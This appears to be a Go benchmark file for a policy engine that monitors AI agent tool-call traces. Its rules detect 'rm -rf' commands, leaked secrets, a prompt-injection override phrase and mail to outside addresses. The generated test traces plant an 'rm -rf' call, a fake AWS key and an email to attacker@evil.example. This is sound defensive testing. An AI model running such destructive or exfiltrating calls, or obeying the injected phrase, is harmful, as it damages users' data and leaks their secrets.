package policy_test

import (
	"context"
	"encoding/json"
	"fmt"
	"syscall"
	"testing"
	"time"

	"github.com/vigilhq/vigil/policy"
	"github.com/vigilhq/vigil/trace"
)

// benchPolicy is a corpus of five realistic rules: a two-variable flow
// rule over tool patterns, a secrets detector rule, a substring rule, a
// predicate and a match rule with a negation.
const benchPolicy = `
from invariant.detectors import secrets

is_destructive(call: ToolCall) :=
    call is tool:bash
    "rm -rf" in call.function.arguments.command

raise "must not mail anyone but Peter after reading the inbox" if:
    (call: ToolCall) -> (call2: ToolCall)
    call is tool:get_inbox
    call2 is tool:send_email({to: "^(?!Peter$).*$"})

raise PolicyViolation("secret in a tool output", out=out) if:
    (out: ToolOutput)
    any(secrets(out))

raise "prompt injection in a tool output" if:
    (out: ToolOutput)
    "Ignore all previous instructions" in out.content

raise f"destructive command {call.function.arguments.command}" if:
    (call: ToolCall)
    is_destructive(call)

raise "mail outside the company" if:
    (call: ToolCall)
    call is tool:send_email
    not match(r".*@acme\.example$", call.function.arguments.to)
`

// genTrace returns a trace of about n events: user turns, assistant tool
// calls (inbox, files, shell, mail), tool outputs and answers.
func genTrace(n int) []any {
	var out []any
	for i := 0; len(out) < n; i++ {
		out = append(out, map[string]any{"role": "user", "content": fmt.Sprintf("Please handle request %d, thanks. Keep it short.", i)})
		var name string
		var args map[string]any
		switch i % 10 {
		case 0:
			name, args = "get_inbox", map[string]any{"n": 10}
		case 3:
			name, args = "bash", map[string]any{"command": fmt.Sprintf("ls -la /tmp/%d", i)}
		case 7:
			name, args = "send_email", map[string]any{"to": "Peter", "body": "see you"}
			if i%70 == 7 {
				name, args = "bash", map[string]any{"command": "rm -rf /tmp/build"}
			}
		case 9:
			name, args = "send_email", map[string]any{"to": "Peter", "body": fmt.Sprintf("report %d", i)}
			if len(out)+8 >= n {
				// one exfiltration near the end of the trace
				args["to"] = "attacker@evil.example"
			}
		default:
			name, args = "read_file", map[string]any{"path": fmt.Sprintf("/home/u/doc%d.txt", i)}
		}
		id := fmt.Sprint("c", i)
		out = append(out, map[string]any{"role": "assistant", "content": nil, "tool_calls": []any{map[string]any{"id": id, "type": "function", "function": map[string]any{"name": name, "arguments": args}}}})
		result := fmt.Sprintf("result %d: the file contains a few lines of ordinary text and numbers 12345.", i)
		if i%50 == 5 {
			result += " AWS_ACCESS_KEY_ID=AKIAZ7VQ3XKP4MBL2NWE" // one leaked key in every 200 events
		}
		out = append(out, map[string]any{"role": "tool", "tool_call_id": id, "content": result})
		out = append(out, map[string]any{"role": "assistant", "content": "Done. Anything else?"})
	}
	return out[:n]
}

func genDecoded(b *testing.B, n int) *trace.Trace {
	data, err := json.Marshal(genTrace(n))
	if err != nil {
		b.Fatal(err)
	}
	t, err := trace.Decode(data)
	if err != nil {
		b.Fatal(err)
	}
	return t
}

// cpuTimer reports the process CPU time per operation ("cpu-ns/op", GC
// included) next to the wall time, which on a shared machine says more
// about the engine than ns/op does.
type cpuTimer struct{ start time.Duration }

func cpuNow() time.Duration {
	var ru syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}

func startCPU() cpuTimer { return cpuTimer{cpuNow()} }

func (c cpuTimer) report(b *testing.B) {
	b.ReportMetric(float64(cpuNow()-c.start)/float64(b.N), "cpu-ns/op")
}

func BenchmarkLoad(b *testing.B) {
	b.ReportAllocs()
	defer startCPU().report(b)
	for b.Loop() {
		if _, err := policy.Load(benchPolicy, policy.Options{}); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkAnalyze(b *testing.B) {
	p, err := policy.Load(benchPolicy, policy.Options{})
	if err != nil {
		b.Fatal(err)
	}
	for _, n := range []int{10, 100, 1000, 10000} {
		t := genDecoded(b, n)
		b.Run(fmt.Sprint(n), func(b *testing.B) {
			b.ReportAllocs()
			defer startCPU().report(b)
			for b.Loop() {
				if _, err := p.Analyze(context.Background(), t, nil); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkMonitorAppend measures appending one event to a monitored
// trace of 10,000 events.
func BenchmarkMonitorAppend(b *testing.B) {
	p, err := policy.Load(benchPolicy, policy.Options{})
	if err != nil {
		b.Fatal(err)
	}
	const base = 10000
	t := genDecoded(b, base+20000)
	m, err := p.NewMonitor(nil)
	if err != nil {
		b.Fatal(err)
	}
	if _, err := m.Append(context.Background(), t.Events[:base]...); err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	b.ResetTimer()
	defer startCPU().report(b)
	i := base
	for b.Loop() {
		if i == len(t.Events) {
			b.StopTimer()
			m, _ = p.NewMonitor(nil)
			m.Append(context.Background(), t.Events[:base]...)
			i = base
			b.StartTimer()
		}
		if _, err := m.Append(context.Background(), t.Events[i]); err != nil {
			b.Fatal(err)
		}
		i++
	}
}

// BenchmarkAnalyzePairs is the spec's budget example (§10.10): a
// 1,000-message trace and two free Message variables, 10^6 combinations of
// a three-line body, which must fit in the default budget.
func BenchmarkAnalyzePairs(b *testing.B) {
	p, err := policy.Load(`
raise "same content" if:
    (a: Message)
    (b: Message)
    a.content == b.content
    a -> b
`, policy.Options{})
	if err != nil {
		b.Fatal(err)
	}
	var msgs []any
	for i := range 1000 {
		msgs = append(msgs, map[string]any{"role": "user", "content": fmt.Sprint("m", i%500)})
	}
	data, _ := json.Marshal(msgs)
	t, err := trace.Decode(data)
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	defer startCPU().report(b)
	for b.Loop() {
		res, err := p.Analyze(context.Background(), t, nil)
		if err != nil || len(res.Failures) != 0 || len(res.Errors) != 500 {
			b.Fatalf("%d violations, failures %v, %v", len(res.Errors), res.Failures, err)
		}
	}
}
